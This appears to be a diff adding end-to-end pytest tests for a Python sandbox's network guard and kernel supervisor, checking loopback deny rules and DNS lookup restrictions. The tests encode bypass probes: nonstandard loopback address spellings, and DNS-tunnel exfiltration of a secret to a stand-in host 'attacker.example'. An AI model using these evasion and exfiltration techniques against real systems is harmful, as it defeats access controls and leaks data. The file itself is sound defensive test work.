@@ -1,0 +1,456 @@
+"""End-to-end: one destination, one verdict, whatever its spelling (issue
+13, item 7), and a DNS query only for a host a rule names (issue 14, item
+2; weakness 15). Both layers: the Python guard (guard/net.c, under
+os-sandbox=subprocess) and the kernel layer's supervisor (src/netsup.c,
+os-sandbox=landlock with py-sandbox=false, so that every socket call
+reaches it as native code would), and the two together; as root and as
+uid 65534.
+
+The evidence is outside the sandbox: a TCP and a UDP listener on every
+local address (dual-stack when IPv6 works) count what arrived, and a fake
+DNS server on 127.0.0.x:53 records the names it was asked for. A refused
+spelling must leave the counters at zero; the same spellings under rules
+that allow loopback must arrive (the control that the probes work).
+"""
+
+import os
+import random
+import socket
+import textwrap
+import threading
+import time
+
+import pytest
+
+from conftest import scaled
+from test_guard_net import _ipv6_works
+from test_kernel import ABI
+
+PYTHON = "/usr/bin/python3"  # uid 65534 cannot reach pyenv's under /root
+
+# layer -> (os-sandbox, py-sandbox)
+LAYERS = {
+    "guard": ("subprocess", "true"),
+    "supervisor": ("landlock", "false"),
+    "both": ("landlock", "true"),
+}
+WHO = ["root", "nobody"]
+
+
+IPV6 = _ipv6_works()
+
+
+@pytest.fixture(params=list(LAYERS), ids=list(LAYERS))
+def layer(request):
+    os_sandbox, _ = LAYERS[request.param]
+    if os_sandbox == "landlock" and ABI < 4:
+        pytest.skip(f"this kernel's Landlock ABI is {ABI}, below 4")
+    if not os.access(PYTHON, os.X_OK):
+        pytest.skip(f"no {PYTHON}")
+    return request.param
+
+
+@pytest.fixture(params=WHO, ids=WHO)
+def who(request):
+    if request.param == "nobody" and os.geteuid() != 0:
+        pytest.skip("not root: the root column is unprivileged already")
+    return request.param
+
+
+class Counter:
+    """A listener on every local address that counts what arrives."""
+
+    def __init__(self, kind):
+        fam = socket.AF_INET6 if IPV6 else socket.AF_INET
+        self.sock = socket.socket(fam, kind)
+        if IPV6:
+            self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        self.sock.bind(("::" if IPV6 else "0.0.0.0", 0))
+        self.port = self.sock.getsockname()[1]
+        self.count = 0
+        self.lock = threading.Lock()
+        if kind == socket.SOCK_STREAM:
+            self.sock.listen(64)
+        threading.Thread(target=self._serve, args=(kind,),
+                         daemon=True).start()
+
+    def _serve(self, kind):
+        while True:
+            try:
+                if kind == socket.SOCK_STREAM:
+                    conn, _ = self.sock.accept()
+                    conn.close()
+                else:
+                    self.sock.recvfrom(2048)
+            except OSError:
+                return
+            with self.lock:
+                self.count += 1
+
+    def settled(self, want=None):
+        """The count once nothing more arrives (or want is reached)."""
+        deadline = time.monotonic() + scaled(2)
+        last = -1
+        while time.monotonic() < deadline:
+            with self.lock:
+                n = self.count
+            if want is not None and n >= want:
+                return n
+            if n == last and want is None:
+                time.sleep(0.2)
+                with self.lock:
+                    if self.count == n:
+                        return n
+            last = n
+            time.sleep(0.1)
+        with self.lock:
+            return self.count
+
+    def close(self):
+        try:
+            self.sock.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+        self.sock.close()
+
+
+@pytest.fixture
+def counters():
+    tcp, udp = Counter(socket.SOCK_STREAM), Counter(socket.SOCK_DGRAM)
+    yield tcp, udp
+    tcp.close()
+    udp.close()
+
+
+PRELUDE = '''\
+import asyncio, socket, sys
+P, U = int(sys.argv[1]), int(sys.argv[2])
+A4, A6 = socket.AF_INET, socket.AF_INET6
+
+
+def t(label, f):
+    try:
+        r = f()
+    except BaseException as e:
+        print(f"{label}: {type(e).__name__}: {e}", flush=True)
+    else:
+        print(f"{label}: OK {r!r}", flush=True)
+
+
+def tcp(fam, host, cls=socket.socket):
+    s = cls(fam, socket.SOCK_STREAM)
+    s.settimeout(10)
+    try:
+        s.connect((host, P))
+        return "connected"
+    finally:
+        s.close()
+
+
+def udp(fam, host, how="sendto"):
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    try:
+        if how == "sendto":
+            s.sendto(b"x", (host, U))
+        else:
+            s.sendmsg([b"x"], [], 0, (host, U))
+        return "sent"
+    finally:
+        s.close()
+
+
+def aio(host):
+    async def go():
+        r, w = await asyncio.wait_for(asyncio.open_connection(host, P), 10)
+        w.close()
+    asyncio.run(go())
+    return "connected"
+
+
+'''
+
+# label -> the probe; every one of them reaches loopback on Linux
+TCP_LOOP = {
+    "any": "tcp(A4, '0.0.0.0')",
+    "zero": "tcp(A4, '0')",
+    "zero_octal": "tcp(A4, '00')",
+    "zero_hex": "tcp(A4, '0x0')",
+    "zero_two_parts": "tcp(A4, '0.0')",
+    "empty": "tcp(A4, '')",
+    "short": "tcp(A4, '127.1')",
+    "hex": "tcp(A4, '0x7f.1')",
+    "integer": "tcp(A4, '2130706433')",
+    "octal": "tcp(A4, '017700000001')",
+    "c_class": "tcp(A4, '0', socket.socket.__mro__[1])",
+    "create_connection": "socket.create_connection(('0', P), 10).close()",
+    "asyncio": "aio('0.0.0.0')",
+}
+TCP_LOOP6 = {
+    "any6": "tcp(A6, '::')",
+    "any6_long": "tcp(A6, '0:0::0')",
+    "mapped_any": "tcp(A6, '::ffff:0.0.0.0')",
+    "mapped_loop": "tcp(A6, '::ffff:127.0.0.1')",
+    "mapped_c_class": "tcp(A6, '::ffff:0.0.0.0', socket.socket.__mro__[1])",
+}
+UDP_LOOP = {
+    "udp_any": "udp(A4, '0.0.0.0')",
+    "udp_zero": "udp(A4, '0')",
+    "udp_short": "udp(A4, '127.1')",
+    "udp_sendmsg": "udp(A4, '0', 'sendmsg')",
+}
+UDP_LOOP6 = {
+    "udp_any6": "udp(A6, '::')",
+    "udp_mapped_any": "udp(A6, '::ffff:0.0.0.0')",
+    "udp_sendmsg6": "udp(A6, '::', 'sendmsg')",
+}
+
+
+def _probes():
+    tcp, udp = dict(TCP_LOOP), dict(UDP_LOOP)
+    if IPV6:
+        tcp.update(TCP_LOOP6)
+        udp.update(UDP_LOOP6)
+    return tcp, udp
+
+
+def _run(run_sb, tmp_cwd, layer, who, rules, body, *args):
+    os_sandbox, py_sandbox = LAYERS[layer]
+    if who == "nobody":
+        os.chown(tmp_cwd, 65534, 65534)
+    (tmp_cwd / ".py-sandboxes").write_text(
+        "python-import=*\n" + "".join(r + "\n" for r in rules) +
+        f"os-sandbox={os_sandbox}\npy-sandbox={py_sandbox}\n")
+    (tmp_cwd / "s.py").write_text(PRELUDE + textwrap.dedent(body))
+    r = run_sb([f"--python={PYTHON}", "s.py", *[str(a) for a in args]],
+               unprivileged=who == "nobody", timeout=scaled(60))
+    assert r.returncode == 0, (r.stdout, r.stderr)
+    out = {}
+    for line in r.stdout.splitlines():
+        label, sep, rest = line.partition(": ")
+        if sep:
+            out[label] = rest
+    return out, r.stderr
+
+
+def _refused(layer, result):
+    """The layer's own refusal, not a timeout or a refused connection."""
+    if layer == "supervisor":
+        return result.startswith("PermissionError: [Errno 13]")
+    return result.startswith("RuleSocketConnectionRefusedError: ")
+
+
+def test_every_spelling_of_loopback_is_refused_by_a_loopback_deny(
+        run_sb, tmp_cwd, layer, who, counters):
+    """Issue 13, item 8: 0.0.0.0, ::, 0 and the rest reached loopback past
+    a DENY of 127.0.0.0/8 and ::1. Nothing may arrive now."""
+    tcp_c, udp_c = counters
+    tcp, udp = _probes()
+    body = "".join(f"t({k!r}, lambda: {v})\n"
+                   for k, v in {**tcp, **udp}.items())
+    out, err = _run(run_sb, tmp_cwd, layer, who,
+                    ["net=DENY|*|127.0.0.0/8|*|OUT", "net=DENY|*|::1|*|OUT",
+                     "net=ALLOW|*|*|*|*"], body, tcp_c.port, udp_c.port)
+    for label in list(tcp) + list(udp):
+        assert _refused(layer, out.get(label, "")), (label, out.get(label),
+                                                     err)
+    assert tcp_c.settled() == 0, "a refused connection arrived"
+    assert udp_c.settled() == 0, "a refused datagram arrived"
+
+
+def test_the_same_spellings_arrive_when_loopback_is_allowed(
+        run_sb, tmp_cwd, layer, who, counters):
+    """The control: the probes above do reach the listeners, so their
+    refusal is the sandbox's. And an ALLOW of 0.0.0.0 is not one of
+    loopback (the guard's message says where the kernel connects)."""
+    tcp_c, udp_c = counters
+    tcp, udp = _probes()
+    body = "".join(f"t({k!r}, lambda: {v})\n"
+                   for k, v in {**tcp, **udp}.items())
+    p, u = tcp_c.port, udp_c.port
+    out, err = _run(run_sb, tmp_cwd, layer, who,
+                    [f"net=ALLOW|TCP|127.0.0.1|{p}|OUT",
+                     f"net=ALLOW|TCP|::1|{p}|OUT",
+                     f"net=ALLOW|UDP|127.0.0.1|{u}|OUT",
+                     f"net=ALLOW|UDP|::1|{u}|OUT"], body, p, u)
+    for label in tcp:
+        assert out.get(label) in ("OK 'connected'", "OK None"), (
+            label, out.get(label), err)
+    for label in udp:
+        assert out.get(label) == "OK 'sent'", (label, out.get(label), err)
+    assert tcp_c.settled(len(tcp)) == len(tcp)
+    assert udp_c.settled(len(udp)) == len(udp)
+
+    out, err = _run(run_sb, tmp_cwd, layer, who,
+                    [f"net=ALLOW|TCP|0.0.0.0|{p}|OUT"],
+                    "t('any', lambda: tcp(A4, '0.0.0.0'))\n", p, u)
+    assert _refused(layer, out["any"]), (out, err)
+    if layer != "supervisor":
+        assert out["any"].endswith(
+            f"'[0.0.0.0]:{p}' DENIED by implicit default policy. The "
+            "kernel connects to 127.0.0.1."), out["any"]
+
+
+# ---- DNS: a query only for a host a rule names ----
+
+class FakeDns:
+    """A UDP socket on 127.0.0.x:53 that records every question name."""
+
+    def __init__(self):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        for _ in range(50):
+            self.addr = f"127.0.0.{random.randint(100, 250)}"
+            try:
+                self.sock.bind((self.addr, 53))
+                break
+            except OSError:
+                continue
+        else:
+            pytest.skip("no free 127.0.0.x:53")
+        self.names = []
+        self.lock = threading.Lock()
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                data, _ = self.sock.recvfrom(4096)
+            except OSError:
+                return
+            labels, i = [], 12
+            while i < len(data) and data[i]:
+                labels.append(data[i + 1:i + 1 + data[i]])
+                i += 1 + data[i]
+            with self.lock:
+                self.names.append(b".".join(labels).decode("ascii",
+                                                           "replace"))
+
+    def seen(self):
+        time.sleep(0.2)
+        with self.lock:
+            return list(self.names)
+
+    def close(self):
+        self.sock.close()
+
+
+@pytest.fixture
+def fake_dns():
+    if os.geteuid() != 0:
+        pytest.skip("binding port 53 needs root")
+    d = FakeDns()
+    yield d
+    d.close()
+
+
+DNS_PRELUDE = '''
+import struct
+R = sys.argv[3]
+
+
+def query(name, qd=1, opcode=0):
+    b = struct.pack(">HHHHHH", 0x1234, 0x0100 | opcode << 11, qd, 0, 0, 0)
+    for label in name.split("."):
+        b += bytes([len(label)]) + label.encode()
+    return b + b"\\0\\0\\1\\0\\1"
+
+
+def send(data, how="sendto"):
+    s = socket.socket(A4, socket.SOCK_DGRAM)
+    try:
+        if how == "sendto":
+            s.sendto(data, (R, 53))
+        elif how == "sendto_flags":
+            s.sendto(data, 0, (R, 53))
+        elif how == "sendmsg":
+            s.sendmsg([data], [], 0, (R, 53))
+        else:
+            s.connect((R, 53))
+            s.send(data)
+        return "sent"
+    finally:
+        s.close()
+
+
+def stream(data):
+    s = socket.socket(A4, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect((R, 53))
+        s.send(struct.pack(">H", len(data)) + data)
+        return "sent"
+    finally:
+        s.close()
+'''
+
+SECRET = "s3cr3t-payload.attacker.example"
+
+
+def test_a_dns_query_leaves_only_for_a_named_host(run_sb, tmp_cwd, layer,
+                                                  who, fake_dns, counters):
+    """Weakness 15 closed: a rule for the resolver's address allows the
+    address, not every lookup. The hostile program builds its own queries
+    and sends them to the resolver the rules allow; only the one for the
+    host a rule names (localhost) reaches the fake server."""
+    tcp_c, udp_c = counters
+    body = DNS_PRELUDE + f'''
+N = {SECRET!r}
+t("named", lambda: send(query("localhost")))
+t("named_flags", lambda: send(query("LocalHost"), "sendto_flags"))
+t("secret", lambda: send(query(N)))
+t("secret_flags", lambda: send(query(N), "sendto_flags"))
+t("secret_sendmsg", lambda: send(query(N), "sendmsg"))
+t("secret_connected", lambda: send(query(N), "connect"))
+t("secret_c_class", lambda: socket.socket.__mro__[1](A4, socket.SOCK_DGRAM)
+  .sendto(query(N), (R, 53)))
+t("two_questions", lambda: send(query("localhost", qd=2) + query(N)[12:]))
+t("update", lambda: send(query(N, opcode=5)))
+t("named_then_junk", lambda: send(query("localhost") + N.encode()))
+t("stream", lambda: stream(query(N)))
+t("gai", lambda: socket.getaddrinfo(N, 80))
+'''
+    out, err = _run(run_sb, tmp_cwd, layer, who,
+                    [f"net=ALLOW|UDP|{fake_dns.addr}|53|OUT",
+                     f"net=ALLOW|TCP|{fake_dns.addr}|53|OUT",
+                     "net=ALLOW|TCP|localhost|9|OUT"], body,
+                    tcp_c.port, udp_c.port, fake_dns.addr)
+    seen = fake_dns.seen()
+    assert not [n for n in seen if "attacker" in n or "s3cr3t" in n], seen
+    assert out["named"] == "OK 'sent'", (out, err)
+    assert out["named_flags"] == "OK 'sent'", (out, err)
+    assert sorted(seen) == ["LocalHost", "localhost"], seen
+    for label in ("secret", "secret_flags", "secret_sendmsg",
+                  "secret_connected", "secret_c_class",
+                  "two_questions", "update", "named_then_junk", "stream"):
+        assert _refused(layer, out[label]), (label, out[label], err)
+    if layer != "supervisor":
+        assert out["secret"] == (
+            "RuleSocketConnectionRefusedError: Guard DNS query for "
+            f"'{SECRET}' DENIED: no net= rule names this host. Add "
+            f"net=ALLOW|TCP|{SECRET}|<port>|OUT to resolve and reach it (an "
+            "address rule allows addresses, not lookups).")
+        assert out["gai"].startswith(
+            f"RuleSocketConnectionRefusedError: Guard name resolution of "
+            f"'{SECRET}' DENIED"), out["gai"]
+    else:
+        assert (f"python-sb: network: DNS query for '{SECRET}' refused: no "
+                "net= rule names this host.") in err
+        assert f"Hint: add net=ALLOW|TCP|{SECRET}|<port>|OUT" in err
+
+
+def test_a_star_rule_lets_every_query_through(run_sb, tmp_cwd, layer, who,
+                                              fake_dns, counters):
+    """'*' names every host: queries for any name go out, as the rule
+    says (and as the user who wrote it asked)."""
+    tcp_c, udp_c = counters
+    body = DNS_PRELUDE + f'''
+t("secret", lambda: send(query({SECRET!r})))
+t("connected", lambda: send(query("other.example"), "connect"))
+'''
+    out, err = _run(run_sb, tmp_cwd, layer, who, ["net=ALLOW|UDP|*|53|OUT"],
+                    body, tcp_c.port, udp_c.port, fake_dns.addr)
+    assert out["secret"] == "OK 'sent'", (out, err)
+    assert out["connected"] == "OK 'sent'", (out, err)
+    deadline = time.monotonic() + scaled(2)
+    while len(fake_dns.seen()) < 2 and time.monotonic() < deadline:
+        pass
+    assert sorted(fake_dns.seen()) == ["other.example", SECRET]
